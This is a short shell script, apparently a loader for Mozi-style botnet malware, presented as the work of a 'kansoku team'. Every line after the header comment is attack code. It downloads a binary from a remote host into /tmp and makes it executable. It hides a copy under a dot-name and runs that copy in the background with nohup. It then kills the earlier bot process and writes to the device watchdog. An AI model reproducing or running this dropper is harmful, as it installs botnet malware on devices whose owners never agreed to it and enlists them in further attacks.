# Mozi-style loader (written by the kansoku team): a single binary over HTTP, renamed and started in
# the background with nohup, the watchdog stopped, the old bot killed by pid from ps.
cd /tmp
wget http://192.0.2.30:8080/Mozi.m -O /tmp/Mozi.m
chmod 777 /tmp/Mozi.m
cp /tmp/Mozi.m /tmp/.mozi
nohup /tmp/.mozi dr >/dev/null 2>&1 &
ps | grep -v grep | grep mozi | awk '{print $1}'
kill -9 $(ps | grep Mozi.m | awk '{print $1}')
echo > /dev/watchdog
